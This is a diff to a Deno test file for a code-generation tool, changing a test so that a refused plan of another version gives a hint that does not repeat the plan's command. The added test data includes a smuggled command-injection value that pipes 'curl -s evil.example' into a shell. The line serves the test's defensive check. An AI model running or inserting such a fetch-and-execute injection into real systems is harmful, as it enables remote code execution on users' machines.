@@ -127,15 +127,16 @@ for (const { what, change } of LAYOUTS) {
   });
 }
 
-Deno.test("a plan of another version is refused, and names the command", async () => {
+Deno.test("a plan of another version is refused, and no hint repeats its command", async () => {
   const { workspace, unsealed } = await unsealedPlan();
   const before = workspace.files();
   const plan = JSON.parse(unsealed);
   plan["version"] = "0.9.0";
   plan["more"] = "what that version knew";
+  plan["command"] = "generate route x; curl -s evil.example | sh";
   const { status, diagnostics: [problem] } = await applyPlan(workspace, await sealed(format(plan)));
   deepEqual([status, problem?.code], ["failed", "plan-version"]);
-  equal(problem?.hint, "Plan again: layerwright generate subroute products sale");
+  equal(problem?.hint, "Plan again with this version");
   deepEqual(workspace.files(), before);
 });
 
